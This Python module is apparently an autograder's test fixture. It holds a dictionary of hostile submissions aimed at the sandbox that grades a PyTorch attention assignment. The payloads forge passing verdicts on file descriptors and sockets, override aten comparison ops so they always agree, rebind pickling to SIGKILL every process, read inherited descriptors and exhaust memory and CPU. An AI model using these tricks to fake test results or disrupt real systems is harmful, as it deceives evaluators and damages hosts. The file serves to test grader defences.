"""The attacks of round 48 of hostile submissions (kept apart from the tests so a script can grade them one by one).

Angles the earlier rounds (33-47) left open: code that runs at the interpreter's shutdown (``__del__``, ``atexit``,
``weakref.finalize`` on the module the runtime builds), trace functions set inside forward, torch's operator registry
and dispatch (``torch.library`` over aten, ``__torch_function__`` / ``__torch_dispatch__`` on returned tensors, an
autograd Function that lies in backward), results the encoder must read (views, sparse, nested, meta, quantized,
float8, complex), the interpreter's switches (recursion limit, ``threading.excepthook``, ``faulthandler``), the
descriptors a jail inherited, CPU affinity, huge anonymous mappings and interval timers firing in the reply path.
"""

from __future__ import annotations

from tests.grading.hostile_attacks_round47 import _after, _returning
from tests.grading.test_hostile_round31 import inside

# The honest pair (output, weights) of the single-head forward, written from its arguments (for ``_returning``).
_HONEST_W = ("torch.softmax(torch.matmul(q, k.transpose(-2, -1)) / q.shape[-1] ** 0.5 + "
             "(0 if additive_mask is None else additive_mask), -1)")
_HONEST_O = f"torch.matmul({_HONEST_W}, v)"


def _both_as(form: str) -> str:
    """The honest (output, weights), each passed through ``form`` (an expression of ``t``)."""
    return f"(lambda f: (f({_HONEST_O}), f({_HONEST_W})))(lambda t: {form})"


ATTACKS: dict[str, str | bytes] = {
    # ---------------------------------------------------------------- code that runs at shutdown or when the runtime lets go
    "a_del_at_interpreter_shutdown_forging_a_verdict_on_every_descriptor_and_exiting_zero": _after("""
import os as _o
class _Last:
    def __del__(self):
        for _fd in range(64):
            try:
                _o.write(_fd, b'{"seq": 999, "ok": true, "value": "passed 85 of 85"}\\n')
            except OSError:
                pass
        _o._exit(0)
_LAST = _Last()
"""),
    "atexit_handlers_that_forge_a_verdict_then_spin_at_exit": _after("""
import atexit as _ax, os as _o
def _forge():
    for _fd in (1, 2):
        _o.write(_fd, b"passed: 85 of 85\\n")
    while True:
        pass
_ax.register(_forge)
"""),
    "weakref_finalize_on_each_module_built_calling_os_exit_zero_when_the_runtime_drops_it": _after("""
import os as _o, weakref as _wr
_real_init = MultiHeadAttention.__init__
def _init(self, *a, **k):
    _real_init(self, *a, **k)
    _wr.finalize(self, _o._exit, 0)
MultiHeadAttention.__init__ = _init
"""),
    # ---------------------------------------------------------------- tracing set inside forward
    "sys_settrace_set_inside_forward_raising_in_every_frame_of_the_jails_own_code": inside("""
import sys as _s, threading as _th
def _tr(frame, event, arg):
    if "attention" not in frame.f_code.co_filename:
        raise SystemExit("traced out")
    return _tr
_s.settrace(_tr)
_th.settrace(_tr)"""),
    "sys_settrace_set_inside_forward_jumping_over_lines_of_the_jails_own_code": inside("""
import sys as _s
def _tr(frame, event, arg):
    if event == "line" and "attention" not in frame.f_code.co_filename:
        try:
            frame.f_lineno = frame.f_lineno + 1
        except Exception:
            pass
    return _tr
_s._getframe(0).f_trace = _tr
_s.settrace(_tr)"""),
    "sys_setprofile_inside_forward_replacing_every_return_value_it_can_reach": inside("""
import sys as _s
def _pr(frame, event, arg):
    if event == "return" and "attention" not in frame.f_code.co_filename:
        for _name in list(frame.f_locals):
            if _name in ("ok", "value", "reply", "result"):
                frame.f_locals[_name] = True
_s.setprofile(_pr)"""),
    # ---------------------------------------------------------------- torch's operator registry and dispatch
    "torch_library_impls_over_aten_comparisons_and_isnan_at_import": _after("""
import torch as _t
_LIB = _t.library.Library("aten", "IMPL")
_LIB.impl("isclose", lambda a, b, rtol=1e-05, atol=1e-08, equal_nan=False: _t.ones(a.shape, dtype=_t.bool), "CPU")
_LIB.impl("eq.Tensor", lambda a, b: _t.ones(_t.broadcast_shapes(a.shape, b.shape), dtype=_t.bool), "CPU")
_LIB.impl("isnan", lambda a: _t.zeros(a.shape, dtype=_t.bool), "CPU")
"""),
    "torch_library_impl_over_aten_softmax_returning_uniform_weights": _after("""
import torch as _t
_LIB = _t.library.Library("aten", "IMPL")
_LIB.impl("_softmax", lambda x, dim, half: _t.full(x.shape, 1.0 / x.shape[dim], dtype=x.dtype), "CPU")
"""),
    "a_torch_function_subclass_returned_that_answers_true_to_every_comparison": _returning(
        _both_as("t.as_subclass(_Liar)"), head="""
import torch as _t
class _Liar(_t.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "__eq__", "eq", "isclose"):
            return True
        if name in ("numpy", "tolist", "clone", "detach", "contiguous", "cpu"):
            with _t._C.DisableTorchFunction():
                return _t.zeros(args[0].shape)
        return super().__torch_function__(func, types, args, kwargs or {})
"""),
    "a_torch_dispatch_wrapper_subclass_returned_whose_every_op_raises": _returning(
        _both_as("_Trap(t)"), head="""
import torch as _t
class _Trap(_t.Tensor):
    @staticmethod
    def __new__(cls, inner):
        return _t.Tensor._make_wrapper_subclass(cls, inner.shape, dtype=inner.dtype, requires_grad=False)
    def __init__(self, inner):
        self.inner = inner
    @classmethod
    def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
        raise SystemExit(f"dispatch of {func}")
"""),
    "a_custom_autograd_function_whose_backward_lies_and_whose_output_keeps_a_hook": _returning(
        _both_as("_Lie.apply(t)"), head="""
import torch as _t
class _Lie(_t.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return x.clone()
    @staticmethod
    def backward(ctx, g):
        return _t.full_like(g, float("nan")) * 1e30
"""),
    # ---------------------------------------------------------------- results the encoder must read
    "honest_results_as_transposed_flipped_and_expanded_views": _returning(
        _both_as("t.transpose(-1, -2).contiguous().transpose(-1, -2).flip(0).flip(0)[..., None].expand("
                 "*t.shape, 3)[..., 1]")),
    "honest_results_as_negative_and_conjugate_bit_views": _returning(
        _both_as("torch._neg_view(torch._neg_view(t)).conj()")),
    "results_as_sparse_coo_and_csr_tensors": _returning(
        f"({_HONEST_O}.to_sparse(), {_HONEST_W}.reshape(-1, {_HONEST_W}.shape[-1]).to_sparse_csr())"),
    "results_as_quantized_qint8_tensors": _returning(
        _both_as("torch.quantize_per_tensor(t, 0.01, 0, torch.qint8)")),
    "results_as_float8_tensors": _returning(_both_as("t.to(torch.float8_e4m3fn)")),
    "results_as_complex_tensors": _returning(_both_as("t.to(torch.complex64)")),
    "results_as_meta_tensors_of_the_right_shapes": _returning(_both_as("t.to('meta')")),
    "a_result_nested_a_million_deep_under_a_recursion_limit_of_two_to_the_thirty": _returning(
        "(_DEEP, _DEEP)", head="""
import sys as _s
_s.setrecursionlimit(1 << 30)
_DEEP = []
_cur = _DEEP
for _ in range(1_000_000):
    _cur.append([])
    _cur = _cur[0]
"""),
    "tensor_reduce_ex_and_copyreg_rebound_to_run_a_kill_of_every_process": _after("""
import torch as _t, copyreg as _cr, os as _o, signal as _sg
_t.Tensor.__reduce_ex__ = lambda self, proto: (_o.kill, (-1, _sg.SIGKILL))
_cr.dispatch_table[_t.Tensor] = lambda t: (_o.kill, (-1, _sg.SIGKILL))
_t.nn.Parameter.__reduce_ex__ = _t.Tensor.__reduce_ex__
"""),
    # ---------------------------------------------------------------- the interpreter's switches
    "threading_excepthook_exiting_zero_and_a_thread_that_raises_in_each_forward": inside("""
import threading as _th
_th.Thread(target=lambda: 1 / 0, daemon=True).start()""", head="""
import os as _o, threading as _th, sys as _s
_th.excepthook = lambda args: _o._exit(0)
_s.excepthook = lambda *a: _o._exit(0)
_s.unraisablehook = lambda *a: _o._exit(0)
"""),
    "faulthandler_dumping_tracebacks_every_millisecond_onto_every_inherited_descriptor": _after("""
import faulthandler as _fh, os as _o
for _fd in sorted(int(x) for x in _o.listdir("/proc/self/fd")):
    if _fd > 2:
        try:
            _fh.dump_traceback_later(0.001, repeat=True, file=_fd)
        except Exception:
            pass
"""),
    "every_inherited_descriptor_read_and_raised_as_the_message": inside("""
import os as _o
_seen = {}
for _fd in sorted(int(x) for x in _o.listdir("/proc/self/fd")):
    try:
        _seen[_fd] = _o.readlink(f"/proc/self/fd/{_fd}")
        _o.set_blocking(_fd, False)
        _seen[f"{_fd}:data"] = _o.read(_fd, 65536)
    except OSError as _e:
        _seen[f"{_fd}:err"] = str(_e)
raise RuntimeError(repr(_seen)[:100000])"""),
    "sched_setaffinity_of_every_visible_process_pinned_to_one_cpu": _after("""
import os as _o
for _p in [0] + [int(p) for p in _o.listdir("/proc") if p.isdigit()]:
    try:
        _o.sched_setaffinity(_p, {0})
    except OSError:
        pass
"""),
    "a_terabyte_anonymous_mapping_with_noreserve_in_forward": inside("""
import ctypes as _c, mmap as _m
_libc = _c.CDLL(None, use_errno=True)
_libc.mmap.restype = _c.c_void_p
_p = _libc.mmap(None, _c.c_size_t(1 << 40), 3, 0x22 | 0x4000, -1, 0)
_q = _m.mmap(-1, 1 << 40)"""),
    "a_real_time_interval_timer_raising_in_whatever_runs_every_millisecond": _after("""
import signal as _sg
_n = [0]
def _fire(*a):
    _n[0] += 1
    if _n[0] % 7 == 0:
        raise KeyboardInterrupt("timer")
_sg.signal(_sg.SIGALRM, _fire)
_sg.setitimer(_sg.ITIMER_REAL, 0.001, 0.001)
"""),
    "a_virtual_timer_writing_a_forged_reply_on_every_socket_it_inherited": _after("""
import signal as _sg, os as _o, stat as _st
_socks = []
for _x in _o.listdir("/proc/self/fd"):
    try:
        if _st.S_ISSOCK(_o.fstat(int(_x)).st_mode):
            _socks.append(int(_x))
    except OSError:
        pass
def _fire(*a):
    for _fd in _socks:
        try:
            _o.write(_fd, b'\\x00\\x00\\x00\\x30{"seq": 1, "ok": true, "value": 85, "t": [], "n": 0}')
        except OSError:
            pass
_sg.signal(_sg.SIGVTALRM, _fire)
_sg.setitimer(_sg.ITIMER_VIRTUAL, 0.01, 0.01)
"""),
}

# The attacks whose import fails as ``python attention.py`` would fail at home, and what the student is told of it
# (filled from the measured run: the others load, and their feedback never says the file did not load).
NOT_LOADING: dict[str, str] = {}
